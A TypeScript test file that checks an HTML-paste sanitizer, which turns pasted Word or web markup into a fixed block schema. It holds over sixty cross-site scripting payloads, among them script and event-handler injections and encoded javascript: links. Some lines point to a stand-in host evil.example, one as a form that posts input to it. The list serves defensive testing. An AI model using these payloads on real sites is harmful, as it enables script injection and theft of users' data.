/** What is pasted becomes blocks of the server's own schema: nothing that runs, nothing of Word's. */
import { Body, linesOf } from '@green/contract/rich-text.ts'
import { expect, test } from 'vitest'
import { blocksFromHtml, htmlOf } from './clean-html.ts'

const j = 'javascript:alert(1)'
/** Attacks, each with the text that may remain; undefined: whatever remains is text only. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>正文',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>正文',
  '<script>alert(1)</script >正文',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>正文',
  '<script/x>alert(1)</script>正文',
  '<svg><script>alert(1)</script></svg>正文',
  '<svg onload=alert(1)>正文</svg>',
  '<svg/onload=alert(1)//',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>">x</mi></math>正文',
  '<img src=x onerror=alert(1)>正文',
  '<img src="x" onerror="alert(1)" />正文',
  '<img """><script>alert(1)</script>">正文',
  '<img src=`x`onerror=alert(1)>正文',
  '<body onload=alert(1)>正文</body>',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))">正文</p>',
  '<div style="width:expression(alert(1))">正文</div>',
  '<style>@import "//evil.example/x.css"; p{color:red}</style>正文',
  '<link rel=stylesheet href=//evil.example/x.css>正文',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">正文',
  '<base href="//evil.example/">正文',
  '<iframe src="javascript:alert(1)"></iframe>正文',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>正文',
  '<object data="data:text/html,x"><p>里面</p></object>正文',
  '<embed src="//evil.example/x.swf">正文',
  '<form action="//evil.example"><input name=p><button>交</button></form>正文',
  '<textarea><script>alert(1)</script></textarea>正文',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">正文',
  '<template><script>alert(1)</script></template>正文',
  '<video><source onerror="alert(1)"></video>正文',
  '<audio src onloadstart=alert(1)></audio>正文',
  '<details open ontoggle=alert(1)>正文</details>',
  '<marquee onstart=alert(1)>正文</marquee>',
  '<x onfocus=alert(1) tabindex=1 autofocus>正文</x>',
  `<a href="${j}">正文</a>`,
  '<a href="JaVaScRiPt:alert(1)">正文</a>',
  '<a href=" javascript:alert(1)">正文</a>',
  '<a href="java\tscript:alert(1)">正文</a>',
  '<a href="java&#10;script:alert(1)">正文</a>',
  '<a href="&#106;avascript:alert(1)">正文</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">正文</a>',
  '<a href="\u0001javascript:alert(1)">正文</a>',
  '<a href="vbscript:msgbox(1)">正文</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">正文</a>',
  '<a href="//evil.example">正文</a>',
  '<a href="\\\\evil.example">正文</a>',
  '<a href="/\\evil.example">正文</a>',
  '<a href="https://gov.cn@evil.example/">正文</a>',
  '<a href="file:///etc/passwd">正文</a>',
  '<a href="blob:https://x.cn/1">正文</a>',
  '<a href="/hindex/logManager">正文</a>',
  '<a href="https://www.gov.cn/\u202egpj.exe">正文</a>',
  '&lt;script&gt;alert(1)&lt;/script&gt;正文',
  '<!--[if gte mso 9]><xml><o:x>alert(1)</o:x></xml><![endif]-->正文',
  '<!--><script>alert(1)</script>-->正文',
  '<![CDATA[<script>alert(1)</script>]]>正文',
  '<?xml version="1.0"?><?php alert(1) ?>正文',
  '<p>正文<b>粗<i>斜</b>乱</i>',
  '<table><tr><td><script>alert(1)</script>正文</td></tr></table>',
  '<a href="https://www.gov.cn" onmouseover="alert(1)" target=_top>正文</a>',
  '<ul><li onclick=alert(1)>正文<li><script>alert(1)</script>',
  '<h1><img src=x onerror=alert(1)>正文</h1>',
]

test('sixty pieces of markup and more leave blocks of the schema, without addresses that run or lead elsewhere', () => {
  expect(attacks.length).toBeGreaterThanOrEqual(60)
  for (const attack of attacks) {
    const blocks = blocksFromHtml(attack)
    expect(Body.safeParse(blocks).success, attack).toBe(true)
    // Everything that may act is gone; in a text of its own, escaped, it is only shown.
    const surface = htmlOf(blocks)
    const tags = [...surface.matchAll(/<(\/?[^\s>]+)([^>]*)>/g)]
    for (const [, tag = '', attributes = ''] of tags) {
      expect(['p', 'h2', 'ul', 'ol', 'li', 'b', 'i', 'u', 'sub', 'sup', 'a', 'table', 'tbody', 'tr', 'td']).toContain(
        tag.replace('/', ''),
      )
      expect(attributes, attack).toMatch(/^(?: href="https:[^"]*")?$/)
    }
    const hrefs = JSON.stringify(blocks).match(/"href":"[^"]*"/g) ?? []
    expect(
      hrefs.every((href) => href === '"href":"https://www.gov.cn"'),
      attack,
    ).toBe(true)
  }
})

test('the text around an attack is kept', () => {
  for (const attack of attacks.filter((one) => one.endsWith('正文') && !one.startsWith('<noscript>')))
    expect(linesOf(blocksFromHtml(attack)).join(''), attack).toContain('正文')
})

test('a page of Word becomes headings, paragraphs, lists and tables; its styles and numbers are gone', () => {
  const word = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{mso-style-parent:"";}</style></head>
    <body lang=ZH-CN><!--StartFragment--><h1><span style='font-family:黑体'>一、总则</span></h1>
    <p class=MsoNormal style='text-indent:24.0pt'><span style='mso-bidi-font-size:12.0pt'>为规范<b>绿色工厂</b>认定，<o:p></o:p></span></p>
    <p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>1.<span>&nbsp;&nbsp;</span></span><![endif]>第一项</p>
    <p class=MsoListParagraph style='mso-list:l0 level1 lfo1'><span style='mso-list:Ignore'>2.</span>第二项</p>
    <p class=MsoNormal>见表：</p>
    <table class=MsoTableGrid border=1><tr><td><p class=MsoNormal>指标</p></td><td><p class=MsoNormal>分值</p></td></tr>
    <tr><td><p>能耗</p></td><td><p>30</p></td></tr></table><!--EndFragment--></body></html>`
  expect(blocksFromHtml(word)).toEqual([
    { kind: 'heading', text: '一、总则' },
    { kind: 'paragraph', runs: [{ text: '为规范' }, { text: '绿色工厂', marks: ['bold'] }, { text: '认定，' }] },
    { kind: 'list', ordered: false, items: [[{ text: '第一项' }], [{ text: '第二项' }]] },
    '见表：',
    {
      kind: 'table',
      rows: [
        ['指标', '分值'],
        ['能耗', '30'],
      ],
    },
  ])
})

test('what the editor shows is read back as it was', () => {
  const body: Body = [
    '普通一段 <b>不是粗体</b>',
    { kind: 'heading', text: '标题' },
    { kind: 'paragraph', runs: [{ text: '见' }, { text: '网页', href: 'https://www.gov.cn/a?b=1' }] },
    { kind: 'list', ordered: true, items: [[{ text: '甲' }], [{ text: '乙', marks: ['bold'] }]] },
    { kind: 'table', rows: [['甲', '乙']] },
  ]
  expect(blocksFromHtml(htmlOf(body))).toEqual(body)
})
